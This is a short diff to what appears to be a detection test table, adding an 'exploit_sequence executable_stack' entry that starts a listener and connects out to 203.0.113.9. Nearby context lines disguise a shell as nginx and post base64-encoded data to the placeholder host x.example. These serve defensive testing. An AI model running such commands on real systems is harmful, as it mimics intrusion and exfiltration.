@@ -167,6 +167,10 @@ ACTS: dict[str, tuple[str, str]] = {
     ),
     "unexplained_root": ("", f'{OWN} "{PROGRAMS}"/root_again.py'),
     "executable_stack": ("", python("stack.py")),
+    "exploit_sequence executable_stack": (
+        NETWORK,
+        f"{python('listen.py 203.0.113.9 18444')} & sleep 1; {python('stack_then_connection.py 203.0.113.9 18444')}",
+    ),
     "web_server_shell": ("", "cp /bin/dash nginx && ./nginx -c 'sh -c true; true'"),
     "shell_network_connect": ("", "cp /bin/dash nginx && ./nginx -c 'curl -s http://127.0.0.1:1/; true'"),
     "data_encoding": ("", "cp /bin/true curl && echo x | base64 | ./curl -d @- http://x.example/"),
